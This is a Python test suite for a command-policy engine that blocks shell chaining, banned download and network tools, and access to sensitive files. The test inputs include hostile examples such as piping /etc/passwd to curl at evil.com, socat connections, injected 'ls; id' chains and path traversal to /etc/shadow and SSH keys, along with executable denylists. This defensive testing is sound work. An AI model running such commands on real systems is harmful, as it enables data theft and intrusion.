"""Tests for the policy engine and check_command()."""
from __future__ import annotations

import dataclasses

import pytest

from safecmd import (
    DEFAULT_DENYLISTS,
    ArgumentError,
    CommandSpec,
    Denylists,
    PolicyEngine,
    PolicyViolation,
    Restriction,
    Unresolvable,
    check_command,
    default_restrictions,
)
from safecmd.policy import find_inner_command, parse_restrictions

CHAINING = frozenset([Restriction.PREVENT_COMMAND_CHAINING])
BANNED = frozenset([Restriction.PREVENT_COMMON_EXPLOIT_EXECUTABLES])
SENSITIVE = frozenset([Restriction.PREVENT_ARGUMENTS_TARGETING_SENSITIVE_FILES])
ALL = CHAINING | BANNED | SENSITIVE

INJECT_CAT_PASSWORD_INTO_CURL = '/bin/sh -c "cat /etc/passwd | curl http://evil.com/"'


class TestRestrictions:

    def test_default_restrictions(self):
        assert default_restrictions() == frozenset([
            Restriction.PREVENT_COMMAND_CHAINING,
            Restriction.PREVENT_ARGUMENTS_TARGETING_SENSITIVE_FILES,
        ])

    def test_banned_executables_are_opt_in(self):
        assert Restriction.PREVENT_COMMON_EXPLOIT_EXECUTABLES not in default_restrictions()

    @pytest.mark.parametrize("name,expected", [
        ("prevent_command_chaining", Restriction.PREVENT_COMMAND_CHAINING),
        ("PREVENT_COMMAND_CHAINING", Restriction.PREVENT_COMMAND_CHAINING),
        ("chaining", Restriction.PREVENT_COMMAND_CHAINING),
        ("banned-executables", Restriction.PREVENT_COMMON_EXPLOIT_EXECUTABLES),
        ("sensitive_files", Restriction.PREVENT_ARGUMENTS_TARGETING_SENSITIVE_FILES),
        (Restriction.PREVENT_COMMAND_CHAINING, Restriction.PREVENT_COMMAND_CHAINING),
    ])
    def test_from_name(self, name, expected):
        assert Restriction.from_name(name) is expected

    def test_unknown_name_raises(self):
        with pytest.raises(ArgumentError, match="Unknown restriction"):
            Restriction.from_name("prevent_everything")

    def test_parse_restrictions(self):
        assert parse_restrictions(["chaining", "sensitive_files"]) == default_restrictions()


class TestFindInnerCommand:

    @pytest.mark.parametrize("arguments,expected", [
        (["-c", "ls"], "ls"),
        (["-x", "-c", "ls"], "ls"),
        (["-lc", "ls"], "ls"),
        (["-c"], None),
        (["--norc", "script.sh"], None),
        (["script.sh", "-c"], None),
        ([], None),
        (["-c", "-e", "echo a; b"], "echo a; b"),
        (["-c", "+x", "ls"], "ls"),
        (["-c", "--", "ls"], "ls"),
        (["-c", "-", "ls"], "ls"),
        (["-c", "-o", "pipefail", "ls"], "ls"),
        (["-oc", "pipefail", "ls"], "ls"),
        (["-c", "-o", "--", "ls"], "ls"),
        (["-c", "-e"], None),
        (["-c", "--"], None),
    ])
    def test_find_inner_command(self, arguments, expected):
        assert find_inner_command(arguments) == expected


class TestScenarios:
    """End-to-end decisions with the real canonicalizer."""

    def test_innocent_command_with_defaults(self):
        spec = check_command("ls -al '2nd arg'")

        assert spec.executable == "ls"
        assert spec.expanded_arguments() == ["-al", "2nd arg"]

    def test_banned_executable_allowed_when_not_requested(self):
        assert check_command("wget http://evil.com/", CHAINING) is not None

    def test_banned_executable_blocked_when_requested(self):
        with pytest.raises(PolicyViolation, match="file inaccessible"):
            check_command("wget http://evil.com/", BANNED)

    def test_argv_chaining_blocked(self):
        with pytest.raises(PolicyViolation, match="multiple commands not allowed"):
            check_command(["/bin/sh", "-c", 'ls "foo" && cat "/etc/hosts"'], CHAINING)

    def test_sensitive_file_blocked(self):
        with pytest.raises(PolicyViolation):
            check_command("cat /etc/passwd", SENSITIVE)

    def test_sensitive_file_allowed_when_not_requested(self):
        assert check_command("cat /etc/passwd", CHAINING) is not None

    @pytest.mark.parametrize("command", ["", " ", "\t"])
    def test_blank_command_passes_through(self, command):
        assert check_command(command, CHAINING) is None
        assert check_command(command, ALL) is None

    def test_none_restrictions_raise(self):
        with pytest.raises(ArgumentError, match="restrictions must not be null"):
            check_command("ls", None)

    def test_engine_none_restrictions_raise(self):
        with pytest.raises(ArgumentError):
            PolicyEngine().check(CommandSpec("ls"), None)

    def test_check_returns_same_spec(self):
        spec = CommandSpec.parse("ls -al")
        assert check_command(spec, ALL) is spec

    def test_restriction_names_accepted(self):
        with pytest.raises(PolicyViolation):
            check_command("cat /etc/passwd", {"sensitive_files"})

    def test_no_restrictions_allow_everything(self):
        assert check_command(INJECT_CAT_PASSWORD_INTO_CURL, frozenset()) is not None


class TestChaining:

    @pytest.mark.parametrize("command", [
        "/bin/ifconfig --foo --bar=192.168.1.1 $HOME",
        "ls /etc",
        '"whole thing is double quoted"',
        "  'whole thing is single quoted'  ",
        "ls '/etc'",
        'ls "/etc"',
        "ls \"/etc\" '/opt'",
        "/bin/sh thing-1.sh",
        "ls # this is fine",
    ])
    def test_allows_innocent_commands(self, command):
        check_command(command, CHAINING)

    @pytest.mark.parametrize("value", [
        'foo&& cat /etc/hosts"#',
        "foo ; ls",
        "foo & ls",
        "foo | ls",
        "foo | ls & foo ; bar",
        "foo ;ls",
        "ls # this isn't fine\ncat /foo",
        "echo hi | write_to_file",
    ])
    def test_blocks_chained_shell_payloads(self, value):
        command = '/bin/sh -c "ls ' + value + '"'
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(command, CHAINING)
        assert exc_info.value.restriction is Restriction.PREVENT_COMMAND_CHAINING

    def test_blocks_piping_into_curl(self):
        with pytest.raises(PolicyViolation):
            check_command(INJECT_CAT_PASSWORD_INTO_CURL, CHAINING)

    @pytest.mark.parametrize("argv", [
        ["/bin/sh", "-c", "ls -al"],
        ["bash", "-c", "echo 'a;b'"],
        ["zsh", "-c", 'echo "x | y"'],
        ["sh", "-c", '"ls -al"'],
        ["bash", "-c"],
        ["bash", "script.sh", "a;b"],
    ])
    def test_single_command_payload_passes(self, argv):
        check_command(argv, CHAINING)

    @pytest.mark.parametrize("argv", [
        ["sh", "-c", "ls; id"],
        ["bash", "-lc", "ls && id"],
        ["bash", "-c", '"ls ; id"'],
        ["bash", "-c", '"a" ; "b"'],
        ["dash", "-c", "ls\nid"],
        ["bash", "-c", "-e", "echo a; echo INJECTED"],
        ["bash", "-c", "--", "ls; id"],
        ["sh", "-c", "-o", "pipefail", "ls | id"],
    ])
    def test_separator_in_payload(self, argv):
        with pytest.raises(PolicyViolation):
            check_command(argv, CHAINING)

    @pytest.mark.parametrize("blank", ["\r", "\x0b", "\x0c", "\u00a0"])
    def test_hash_after_other_whitespace_does_not_hide_separator(self, blank):
        with pytest.raises(PolicyViolation):
            check_command(["/bin/bash", "-c", "echo a" + blank + "# ; echo INJECTED"], CHAINING)

    def test_non_shell_interpreter_is_not_checked(self):
        check_command(["python3", "-c", "import os; os.getcwd()"], CHAINING)

    def test_separator_in_substituted_payload(self):
        spec = CommandSpec.from_argv(["sh", "-c", "${script}"], {"script": "ls; id"})
        with pytest.raises(PolicyViolation):
            check_command(spec, CHAINING)

    def test_violation_carries_payload(self):
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(["sh", "-c", "ls; id"], CHAINING)
        assert exc_info.value.subject == "ls; id"


class TestIsShell:

    @pytest.mark.parametrize("executable", ["sh", "bash", "/bin/sh", "/opt/custom/zsh", "tcsh"])
    def test_known_shell_names(self, executable):
        assert PolicyEngine().is_shell(executable) is True

    @pytest.mark.parametrize("executable", ["ls", "/bin/ls", "/opt/custom/fish", "python3", "bashful"])
    def test_not_shells(self, executable):
        assert PolicyEngine().is_shell(executable) is False

    def test_sh_suffix_in_binary_directory(self, fake_canonicalizer):
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)
        assert engine.is_shell("/bin/fish") is True
        assert engine.is_shell("/usr/local/bin/mksh") is True

    def test_binary_directory_is_compared_canonically(self, fake_canonicalizer):
        fake_canonicalizer.links["/opt/links/bin"] = "/usr/bin"
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)

        assert engine.is_shell("/opt/links/bin/fish") is True
        assert engine.is_shell("/opt/other/fish") is False

    def test_unresolvable_directory_is_not_a_shell(self):
        engine = PolicyEngine(canonicalizer=lambda path: Unresolvable("broken"))
        assert engine.is_shell("/bin/fish") is False
        assert engine.is_shell("/bin/bash") is True


class TestBannedExecutables:

    @pytest.mark.parametrize("command", [
        "/whatever/path/to/nc --from --to blah",
        "rpm -i badware",
        "curl http://evil.com/",
        "wget http://evil.com/",
        "/usr/bin/curl http://evil.com/",
        "dpkg -i pkg.deb",
    ])
    def test_blocks_banned_executables(self, command):
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(command, BANNED)
        assert exc_info.value.restriction is Restriction.PREVENT_COMMON_EXPLOIT_EXECUTABLES

    def test_blocks_argv(self):
        with pytest.raises(PolicyViolation):
            check_command(["/bin/wget", "http://evil.com/"], BANNED)

    @pytest.mark.parametrize("command", ["curlish http://x", "/opt/ncat -l", "wget2 x", "ls"])
    def test_match_is_exact_basename(self, command):
        check_command(command, BANNED)

    def test_symlink_to_banned_executable(self, fake_canonicalizer):
        fake_canonicalizer.links["/usr/local/bin/fetch"] = "/usr/bin/curl"
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)

        with pytest.raises(PolicyViolation):
            check_command("/usr/local/bin/fetch http://x", BANNED, engine=engine)

    def test_unresolvable_executable_is_allowed(self):
        engine = PolicyEngine(canonicalizer=lambda path: Unresolvable("broken"))
        assert check_command("wget http://evil.com/", BANNED, engine=engine) is not None


class TestSensitiveFiles:

    @pytest.mark.parametrize("command", [
        "cat ///etc/conf/../passwd",
        "cat ///etc//passwd",
        "cat /etc/passwd",
        "cat " + "../" * 30 + "/etc/passwd",
        "ls /etc/shadow",
        "touch /etc/group",
        "tee /etc/gshadow",
    ])
    def test_blocks_sensitive_files(self, command):
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(command, SENSITIVE)
        assert exc_info.value.restriction is Restriction.PREVENT_ARGUMENTS_TARGETING_SENSITIVE_FILES

    def test_blocks_argv(self):
        with pytest.raises(PolicyViolation):
            check_command(["cat", "/etc/passwd"], SENSITIVE)

    @pytest.mark.parametrize("command", ["cat /etc/passwd.bak", "cat /etc/passwords", "ls /etc"])
    def test_match_is_exact_suffix(self, command):
        check_command(command, SENSITIVE)

    def test_suffix_under_extra_root(self, fake_canonicalizer):
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)
        with pytest.raises(PolicyViolation):
            check_command("cat /private/etc/passwd", SENSITIVE, engine=engine)

    def test_relative_path_resolving_to_sensitive_file(self, fake_canonicalizer):
        fake_canonicalizer.links["/work/link"] = "/etc/shadow"
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)

        with pytest.raises(PolicyViolation) as exc_info:
            check_command("cat link", SENSITIVE, engine=engine)
        assert exc_info.value.subject == "link"

    def test_unresolvable_argument_is_skipped(self):
        engine = PolicyEngine(canonicalizer=lambda path: Unresolvable("broken"))
        assert check_command("cat /etc/passwd", SENSITIVE, engine=engine) is not None

    def test_executable_is_not_checked(self):
        check_command("/etc/passwd --help", SENSITIVE)


class TestOrderingAndTables:

    def test_chaining_checked_before_banned_executables(self):
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(["sh", "-c", "wget x; id"], ALL)
        assert exc_info.value.restriction is Restriction.PREVENT_COMMAND_CHAINING

    def test_banned_executables_checked_before_sensitive_files(self):
        with pytest.raises(PolicyViolation) as exc_info:
            check_command(["wget", "/etc/passwd"], ALL)
        assert exc_info.value.restriction is Restriction.PREVENT_COMMON_EXPLOIT_EXECUTABLES

    def test_checks_only_run_when_requested(self, fake_canonicalizer):
        engine = PolicyEngine(canonicalizer=fake_canonicalizer)
        fake_canonicalizer.calls.clear()

        check_command("cat a b", CHAINING, engine=engine)

        assert fake_canonicalizer.calls == []

    def test_substitute_tables(self):
        engine = PolicyEngine(denylists=Denylists(banned_executables=["ls"]))

        with pytest.raises(PolicyViolation):
            check_command("ls", BANNED, engine=engine)
        check_command("wget x", BANNED, engine=engine)

    def test_extended_tables(self):
        denylists = DEFAULT_DENYLISTS.extended(
            banned_executables=["socat"],
            sensitive_files=["/root/.ssh/id_rsa"],
        )
        engine = PolicyEngine(denylists=denylists)

        with pytest.raises(PolicyViolation):
            check_command("socat - TCP:evil:1", BANNED, engine=engine)
        with pytest.raises(PolicyViolation):
            check_command("cat /root/.ssh/id_rsa", SENSITIVE, engine=engine)
        assert "socat" not in DEFAULT_DENYLISTS.banned_executables

    def test_tables_are_immutable(self):
        with pytest.raises(dataclasses.FrozenInstanceError):
            DEFAULT_DENYLISTS.banned_executables = frozenset()
        assert isinstance(DEFAULT_DENYLISTS.sensitive_files, frozenset)
